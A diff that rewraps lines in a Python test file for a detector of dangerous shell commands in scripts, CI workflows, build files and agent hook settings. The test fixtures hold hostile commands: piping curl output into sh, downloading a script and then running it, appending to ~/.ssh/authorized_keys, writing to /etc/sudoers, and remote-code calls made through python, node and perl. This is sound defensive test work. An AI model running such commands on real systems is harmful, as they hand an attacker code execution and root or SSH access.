@@ -9,7 +9,16 @@ from examples import examples, near_misses, table
 from reviewers.code.code_changes import edited, new_file
 from reviewers.docs.before_after import subject_of
 
-from cli_guard.model import ChangeSet, FileChange, Finding, Hunk, Kind, Report, Skipped, Status
+from cli_guard.model import (
+    ChangeSet,
+    FileChange,
+    Finding,
+    Hunk,
+    Kind,
+    Report,
+    Skipped,
+    Status,
+)
 from cli_guard.reviewers.commands import review
 from cli_guard.reviewers.commands.judging import is_broken
 from cli_guard.reviewers.review_input import Limits, ReviewInput
@@ -57,7 +66,11 @@ def one(report: Report) -> Finding:
     ("path", "text", "line"),
     [
         ("a.sh", f"#!/bin/sh\nset -e\n{WIPE}\n", 3),
-        (WORKFLOW, f"jobs:\n  a:\n    steps:\n      - run: |\n          set -e\n          {WIPE}\n", 6),
+        (
+            WORKFLOW,
+            f"jobs:\n  a:\n    steps:\n      - run: |\n          set -e\n          {WIPE}\n",
+            6,
+        ),
         (
             WORKFLOW,
             f"jobs:\n  a:\n    steps:\n      - run: >\n          set -e;\n          {WIPE};\n          ls\n",
@@ -67,12 +80,20 @@ def one(report: Report) -> Finding:
         ("Makefile", f"all:\n\t@a; \\\n\t{WIPE}; \\\n\tb\n", 3),
         ("package.json", f'{{\n "scripts": {{\n  "a": "b && {WIPE}"\n }}\n}}\n', 3),
         ("pyproject.toml", f'[tool.poe.tasks.a]\nshell = """\nb\n{WIPE}\n"""\n', 4),
-        (".claude/settings.json", f'{{"hooks": {{"Stop": [{{"hooks": [\n{{"command": "{WIPE}"}}]}}]}}}}', 2),
+        (
+            ".claude/settings.json",
+            f'{{"hooks": {{"Stop": [{{"hooks": [\n{{"command": "{WIPE}"}}]}}]}}}}',
+            2,
+        ),
     ],
 )
 def test_the_line(path: str, text: str, line: int) -> None:
     finding = one(added((path, text)))
-    assert (finding.rule, finding.line, finding.severity) == ("command-wipe", line, "critical")
+    assert (finding.rule, finding.line, finding.severity) == (
+        "command-wipe",
+        line,
+        "critical",
+    )
     assert WIPE in finding.evidence
 
 
@@ -149,15 +170,26 @@ def test_a_line_twice_is_told_once() -> None:
             "curl https://a.example.com | sh -s -- 'a;\nb'",
         ),
         (f"if ls; then\n  {WIPE} # so\nfi )\n", WIPE),
-        (f"( (\n{WIPE} # where the grammar is lost\n", f"{WIPE} # where the grammar is lost"),
-        ("a && b && echo x >> ~/.ssh/authorized_keys\n", "echo x >> ~/.ssh/authorized_keys"),
+        (
+            f"( (\n{WIPE} # where the grammar is lost\n",
+            f"{WIPE} # where the grammar is lost",
+        ),
+        (
+            "a && b && echo x >> ~/.ssh/authorized_keys\n",
+            "echo x >> ~/.ssh/authorized_keys",
+        ),
         ("echo 'a\n;b' | sudo tee /etc/sudoers\n", "echo 'a\n;b' | sudo tee /etc/sudoers"),
-        ("if ls; then\n  x=$(curl https://a.example.com | sh)\nfi\n", "curl https://a.example.com | sh"),
+        (
+            "if ls; then\n  x=$(curl https://a.example.com | sh)\nfi\n",
+            "curl https://a.example.com | sh",
+        ),
         (f"f() {{\n  {WIPE}\n}}\n", WIPE),
     ],
 )
 def test_the_evidence_is_the_statement(text: str, evidence: str) -> None:
-    shown = [f.evidence for f in added(("a.sh", text)).findings if f.rule != "command-unreadable"]
+    shown = [
+        f.evidence for f in added(("a.sh", text)).findings if f.rule != "command-unreadable"
+    ]
     assert shown == [evidence]
 
 
@@ -176,18 +208,29 @@ def test_two_rules_on_a_line() -> None:
 @table(
     ("first", "second"),
     [
-        (("Dockerfile", "RUN curl -o /tmp/i.sh https://x.example.com/i\nRUN sh /tmp/i.sh\n"), None),
+        (
+            (
+                "Dockerfile",
+                "RUN curl -o /tmp/i.sh https://x.example.com/i\nRUN sh /tmp/i.sh\n",
+            ),
+            None,
+        ),
         (
             ("get.sh", "wget -O tools/i.sh https://x.example.com/i\n"),
             ("Makefile", "all:\n\tbash tools/i.sh\n"),
         ),
         (
-            (WORKFLOW, "jobs:\n  a:\n    steps:\n      - run: curl -o i.py https://x.example.com/i\n"),
+            (
+                WORKFLOW,
+                "jobs:\n  a:\n    steps:\n      - run: curl -o i.py https://x.example.com/i\n",
+            ),
             ("z.sh", "ls\npython3 i.py\n"),
         ),
     ],
 )
-def test_a_download_here_that_runs_there(first: tuple[str, str], second: tuple[str, str] | None) -> None:
+def test_a_download_here_that_runs_there(
+    first: tuple[str, str], second: tuple[str, str] | None
+) -> None:
     finding = one(added(first, *([second] if second else [])))
     assert (finding.rule, finding.line) == ("command-remote-code", 2)
     assert finding.path == (second or first)[0]
@@ -207,8 +250,12 @@ def test_other_shells_are_left_alone() -> None:
     "change",
     [
         FileChange("a.sh", Status.DELETED, hunks=(Hunk(1, 0, (WIPE,), ()),)),
-        FileChange("a.sh", Status.ADDED, kind=Kind.SYMLINK, hunks=(Hunk(0, 1, (), (WIPE,)),)),
-        FileChange("a.sh", Status.MODIFIED, kind=Kind.BINARY, hunks=(Hunk(0, 1, (), (WIPE,)),)),
+        FileChange(
+            "a.sh", Status.ADDED, kind=Kind.SYMLINK, hunks=(Hunk(0, 1, (), (WIPE,)),)
+        ),
+        FileChange(
+            "a.sh", Status.MODIFIED, kind=Kind.BINARY, hunks=(Hunk(0, 1, (), (WIPE,)),)
+        ),
         FileChange("a.sh", Status.MODIFIED, old_mode="100644", new_mode="100755"),
     ],
 )
@@ -220,7 +267,9 @@ def test_of_a_bare_patch_the_added_lines_are_read() -> None:
     change = edited("a.sh", f"set -e\nls\n{WIPE}\n", 3)
     report = review(ReviewInput("test", ChangeSet((change,))))
     assert told(report) == [("wipe", 3, "critical")]
-    assert [each.reason for each in report.skipped] == ["commands: whole text not available"]
+    assert [each.reason for each in report.skipped] == [
+        "commands: whole text not available"
+    ]
 
 
 def test_of_a_file_without_commands_nothing_is_said() -> None:
@@ -231,8 +280,12 @@ def test_of_a_file_without_commands_nothing_is_said() -> None:
 
 def test_a_patch_that_names_a_far_line_takes_no_memory() -> None:
     change = FileChange("a.sh", Status.MODIFIED, hunks=(Hunk(1, 10**12, (), (WIPE,)),))
-    report = review(ReviewInput("test", ChangeSet((change,)), limits=Limits(file_chars=1_000)))
-    assert [each.reason for each in report.skipped][:1] == ["commands: whole text not available"]
+    report = review(
+        ReviewInput("test", ChangeSet((change,)), limits=Limits(file_chars=1_000))
+    )
+    assert [each.reason for each in report.skipped][:1] == [
+        "commands: whole text not available"
+    ]
 
 
 def test_a_broken_file_is_named_and_read_as_far_as_it_goes() -> None:
@@ -251,18 +304,33 @@ PYTHON = "shell: python\n      run: |\n        import os\n        os.system({!r}
     [
         (STEP.format(PYTHON.format(REMOTE)), 7),
         (STEP.format(PYTHON.format(REMOTE).replace("python", "python3 -u {0}")), 7),
-        ("defaults: {run: {shell: python}}\n" + STEP.format(PYTHON[14:].strip().format(REMOTE)), 7),
-        (STEP.format(f"shell: node {{0}}\n      run: require('child_process').execSync('{REMOTE}')"), 5),
+        (
+            "defaults: {run: {shell: python}}\n"
+            + STEP.format(PYTHON[14:].strip().format(REMOTE)),
+            7,
+        ),
+        (
+            STEP.format(
+                f"shell: node {{0}}\n      run: require('child_process').execSync('{REMOTE}')"
+            ),
+            5,
+        ),
         (STEP.format(f"shell: perl {{0}}\n      run: system('{REMOTE}');"), 5),
         (STEP.format(f'shell: bash -c "{REMOTE}" {{0}}\n      run: ls'), 4),
-        (f"defaults: {{run: {{shell: \"sh -c '{REMOTE}; sh {{0}}'\"}}}}\n" + STEP.format("run: ls"), 1),
+        (
+            f"defaults: {{run: {{shell: \"sh -c '{REMOTE}; sh {{0}}'\"}}}}\n"
+            + STEP.format("run: ls"),
+            1,
+        ),
         (f"%YAML 1.3\n---\n{RUN}", 6),
         (f"\ufeff# a\n%FOO bar\n%YAML 2.0\n---\n{RUN}", 8),
         (f"a: 1\n...\n%FOO bar\n---\n{RUN}", 8),
         (STEP.format(f"run: ls\n      run: {REMOTE}"), 5),
     ],
 )
-def test_the_shell_of_a_step_and_the_head_of_a_workflow_hide_nothing(text: str, line: int) -> None:
+def test_the_shell_of_a_step_and_the_head_of_a_workflow_hide_nothing(
+    text: str, line: int
+) -> None:
     report = added((WORKFLOW, text))
     assert (told(report), report.skipped) == ([("remote-code", line, "high")], ())
 
@@ -292,10 +360,24 @@ BROKEN = "a: [}\n"
         ("package.json", "{}", '{"a": }, "scripts": {"install": "make"}}', [True]),
         ("pyproject.toml", "", 'x =\n[tool.poe.tasks]\na = "make"\n', [True]),
         ("data/values.yml", "a: 1\n", BROKEN, []),
-        ("chart/templates/a.yaml", "", f"apiVersion: v1\nb: {{{{ .x }}}}\n{BROKEN}", [False]),
+        (
+            "chart/templates/a.yaml",
+            "",
+            f"apiVersion: v1\nb: {{{{ .x }}}}\n{BROKEN}",
+            [False],
+        ),
         ("roles/a/b.yml.j2", "", f"- shell: ls\n{BROKEN}", [False]),
     ],
-    ids=["broken", "broken before", "mended", "JSON", "TOML", "data", "a chart", "a template"],
+    ids=[
+        "broken",
+        "broken before",
+        "mended",
+        "JSON",
+        "TOML",
+        "data",
+        "a chart",
+        "a template",
+    ],
 )
 def test_a_file_with_commands_that_does_not_parse_asks(
     path: str, before: str, after: str, asks: list[bool]
@@ -313,7 +395,9 @@ def test_the_template_of_a_chart_is_read() -> None:
 
 def test_bounds_are_named() -> None:
     report = added(("a.sh", "ls\n" * 500), limits=Limits(file_chars=1_000))
-    assert [(each.reason, each.asks) for each in report.skipped] == [("commands: over 1000 characters", True)]
+    assert [(each.reason, each.asks) for each in report.skipped] == [
+        ("commands: over 1000 characters", True)
+    ]
 
 
 def test_a_long_script_is_judged_in_parts() -> None:
@@ -374,10 +458,17 @@ REJECTED = [
 ]
 
 
-@examples(("text", "fires"), [*((t, True) for t in REJECTED), *((t, False) for t in ACCEPTED)], fires="fires")
+@examples(
+    ("text", "fires"),
+    [*((t, True) for t in REJECTED), *((t, False) for t in ACCEPTED)],
+    fires="fires",
+)
 def test_what_a_shell_accepts_is_not_called_unreadable(text: str, fires: bool) -> None:
     assert (
-        subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True).returncode != 0
+        subprocess.run(
+            ["bash", "-n"], input=text, text=True, capture_output=True
+        ).returncode
+        != 0
     ) == fires
     assert ("unreadable" in [rule for rule, _, _ in told(added(("a.sh", text)))]) == fires
 
@@ -387,7 +478,10 @@ def test_what_is_left_out_hides_no_command_after_it() -> None:
     assert ("wipe", 2, "critical") in told(report)
 
 
-@table("text", ["<<a\n" * 10_000, "<<a" * 13_000, "'" * 39_999, '"\\' * 20_000, "if\n" * 13_000])
+@table(
+    "text",
+    ["<<a\n" * 10_000, "<<a" * 13_000, "'" * 39_999, '"\\' * 20_000, "if\n" * 13_000],
+)
 def test_balance_is_counted_in_linear_time(text: str) -> None:
     started = time.perf_counter()
     is_broken(text)
@@ -397,4 +491,6 @@ def test_balance_is_counted_in_linear_time(text: str) -> None:
 def test_a_thousand_findings_are_counted() -> None:
     report = added(("a.sh", f"{WIPE}\n" * 1_000))
     assert len(report.findings) == 50
-    assert [each.reason for each in report.skipped] == ["commands: 950 more findings of command-wipe"]
+    assert [each.reason for each in report.skipped] == [
+        "commands: 950 more findings of command-wipe"
+    ]
